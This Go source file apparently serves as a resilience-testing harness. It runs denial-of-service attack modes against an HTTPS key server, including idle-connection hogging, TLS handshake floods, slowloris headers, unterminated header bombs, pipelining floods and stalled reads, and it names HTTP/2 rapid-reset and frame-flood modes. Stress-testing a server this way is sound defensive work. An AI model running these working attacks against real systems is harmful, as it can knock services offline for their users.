package attack

import (
	"context"
	"crypto/tls"
	"io"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// host is what all servers under attack are called.
const host = "oidc.example.com"

// path is a document that they serve.
const path = "/prod-a/keys.json"

// modes are the attacks. Each one works on a connection of its own until ctx is done or the connection fails; then it
// gets a new one.
var modes = map[string]func(ctx context.Context, address string) error{
	"tcp-idle":           silent,
	"h1-idle":            http1Idle,
	"h1-slow-header":     http1SlowHeader,
	"h1-header-bomb":     http1HeaderBomb(16 << 10),
	"h1-small-bomb":      http1HeaderBomb(5 << 10), // below what counts as bulky, so that every connection may send one
	"h1-pipeline":        http1Pipeline,
	"h1-stall":           http1Stall,
	"h1-slow-body":       http1SlowBody,
	"h2-idle":            http2Idle,
	"h2-load":            http2Load,
	"h2-cookie-crumbs":   http2CookieCrumbs,
	"h2-unread-refusals": http2Unread,
	"h2-window-drip":     http2WindowDrip,
	"h2-stall":           http2Stall,
	"h2-rapid-reset":     http2RapidReset,
	"h2-hpack-bomb":      http2HPACKBomb,
	"h2-settings-flood":  http2Flood(frame(frameSettings, 0, 0, nil)),
	"h2-ping-flood":      http2Flood(frame(framePing, 0, 0, make([]byte, 8))),
	"h2-priority-flood":  http2Flood(frame(framePriority, 0, 1, []byte{0, 0, 0, 0, 1})),
	"h2-unknown-flood":   http2Flood(frame(0xbb, 0, 0, nil)),
	"h2-window-flood":    http2Flood(frame(frameWindowUpdate, 0, 0, []byte{0, 0, 0, 1})),
	"tls-handshakes":     handshakes,
}

// attack runs a mode on n connections until ctx is done and returns how many it has opened.
func attack(ctx context.Context, mode, address string, n int) int64 {
	var opened atomic.Int64
	var all sync.WaitGroup
	for range n {
		all.Go(func() {
			for ctx.Err() == nil {
				opened.Add(1)
				_ = modes[mode](ctx, address) // the server may do what it wants
				select {
				case <-ctx.Done():
				case <-time.After(20 * time.Millisecond):
				}
			}
		})
	}
	all.Wait()
	return opened.Load()
}

func dial(ctx context.Context, address string) (net.Conn, error) {
	c, err := (&net.Dialer{Timeout: 10 * time.Second}).DialContext(ctx, "tcp", address)
	if err != nil {
		return nil, err
	}
	context.AfterFunc(ctx, func() { _ = c.Close() })
	return c, nil
}

func dialTLS(ctx context.Context, address, protocol string) (net.Conn, error) {
	c, err := dial(ctx, address)
	if err != nil {
		return nil, err
	}
	t := tls.Client(c, &tls.Config{ServerName: host, NextProtos: []string{protocol}, InsecureSkipVerify: true})
	if err := t.HandshakeContext(ctx); err != nil {
		_ = c.Close()
		return nil, err
	}
	return t, nil
}

// untilClosed reads and forgets.
func untilClosed(c net.Conn) error {
	_, err := io.Copy(io.Discard, c)
	return err
}

func silent(ctx context.Context, address string) error {
	c, err := dial(ctx, address)
	if err != nil {
		return err
	}
	defer c.Close()
	return untilClosed(c)
}

func handshakes(ctx context.Context, address string) error {
	for {
		c, err := dialTLS(ctx, address, "http/1.1")
		if err != nil {
			return err
		}
		_ = c.Close()
	}
}

const get = "GET " + path + " HTTP/1.1\r\nHost: " + host + "\r\n\r\n"

func http1(ctx context.Context, address string, do func(c net.Conn) error) error {
	c, err := dialTLS(ctx, address, "http/1.1")
	if err != nil {
		return err
	}
	defer c.Close()
	return do(c)
}

func http1Idle(ctx context.Context, address string) error {
	return http1(ctx, address, func(c net.Conn) error {
		if _, err := io.WriteString(c, get); err != nil {
			return err
		}
		return untilClosed(c)
	})
}

func http1SlowHeader(ctx context.Context, address string) error {
	return http1(ctx, address, func(c net.Conn) error {
		for _, b := range []byte(get + strings.Repeat("x", 100)) {
			if _, err := c.Write([]byte{b}); err != nil {
				return err
			}
			time.Sleep(500 * time.Millisecond)
		}
		return nil
	})
}

// http1HeaderBomb sends as many fields as fit into a header of size bytes, and never ends it.
func http1HeaderBomb(size int) func(ctx context.Context, address string) error {
	var b strings.Builder
	b.WriteString(strings.TrimSuffix(get, "\r\n"))
	const letters = "abcdefghijklmnopqrstuvwxyz"
	for i := 0; b.Len() < size; i++ {
		b.Write([]byte{letters[i%26], letters[i/26%26], letters[i/676%26], ':', '\n'})
	}
	return func(ctx context.Context, address string) error {
		return http1(ctx, address, func(c net.Conn) error {
			if _, err := io.WriteString(c, b.String()); err != nil {
				return err
			}
			return untilClosed(c)
		})
	}
}

// http1Pipeline sends requests and takes no answers.
func http1Pipeline(ctx context.Context, address string) error {
	batch := []byte(strings.Repeat(get, 200))
	return http1(ctx, address, func(c net.Conn) error {
		for {
			if _, err := c.Write(batch); err != nil {
				return err
			}
		}
	})
}

// http1Stall asks for more than the buffers hold, once, takes nothing of it and stays.
func http1Stall(ctx context.Context, address string) error {
	return http1(ctx, address, func(c net.Conn) error {
		if err := c.(*tls.Conn).NetConn().(*net.TCPConn).SetReadBuffer(4 << 10); err != nil {
			return err
		}
		batch := []byte(strings.Repeat(get, 100))
		for { // it ends when the server resets the connection; until then the second batch or so blocks
			if _, err := c.Write(batch); err != nil {
				return err
			}
		}
	})
}

// http1SlowBody promises a body, and never sends it.
func http1SlowBody(ctx context.Context, address string) error {
	return http1(ctx, address, func(c net.Conn) error {
		if _, err := io.WriteString(c, strings.Replace(get, "\r\n\r\n", "\r\nContent-Length: 10\r\n\r\n", 1)); err != nil {
			return err
		}
		return untilClosed(c)
	})
}
